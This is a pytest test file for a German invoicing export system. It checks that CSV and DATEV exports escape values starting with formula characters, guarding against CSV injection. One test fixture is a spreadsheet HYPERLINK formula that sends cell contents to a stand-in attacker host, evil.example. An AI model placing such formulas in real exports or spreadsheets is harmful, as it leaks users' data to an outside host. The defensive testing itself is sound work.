"""No export hands a spreadsheet a formula: a seller named `=HYPERLINK(…)` (and numbers, Leitweg-IDs or reasons
beginning with `+ - @`, tab or CR) reach every CSV and the DATEV file as text (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest

from projections.catalogue import NAMES
from projections.exports.cells import FORMULA_PREFIXES, neutralised
from projections.exports.csv import view_files
from projections.exports.datev import read_extf
from tests.unit.projections.test_datev import _booking, _file
from tests.unit.projections.world import invoice

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Details")'


NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")
"""A negative number the export formats itself (an amount, days overdue): a spreadsheet reads it as a number."""


def formulas(found: list[str]) -> list[str]:
    return [cell for cell in found if cell.startswith(FORMULA_PREFIXES) and not NUMBER.match(cell)]


def cells(content: bytes, delimiter: str) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_would_start_a_formula_is_quoted_and_other_text_is_not(text):
    assert neutralised(text) == "'" + text and neutralised("Müller GmbH") == "Müller GmbH"


def test_every_csv_of_every_view_carries_a_formula_in_a_sellers_name_as_text(world):
    seller = invoice(2).seller.model_copy(update={"name": EVIL})
    world.approved(world.routed(world.accepted(invoice(2, seller=seller, number="-4711"))))
    world.rejected(invoice(8, seller=invoice(8).seller.model_copy(update={"name": "@evil"})), "BR-CO-15")
    world.catch_up()
    seen = []
    for name in NAMES:
        for german in (False, True):
            for item in view_files(world.views[name], today=date(2026, 3, 1), german=german):
                found = cells(item.content, ";" if german else ",")
                assert not formulas(found), item.name
                seen += found
    assert "'" + EVIL in seen and "'@evil" in seen and "'-4711" in seen


def test_the_datev_file_carries_a_formula_in_the_booking_text_and_number_as_text():
    bookings = [_booking(text=EVIL, number="=1+1", leitweg_id="+49"), _booking(number="-5")]
    parsed = read_extf(_file(bookings))
    values = [value for row in parsed.rows for value in row.values()]
    assert not formulas(values)
    first = parsed.rows[0]
    assert first["Buchungstext"].startswith("'=HYPERLINK")
    assert first["Beleginfo - Inhalt 2"] == "'=1+1" and first["Beleginfo - Inhalt 3"] == "'+49"
    assert first["Belegfeld 1"].startswith("1+1-") and parsed.rows[1]["Belegfeld 1"].startswith("5-")
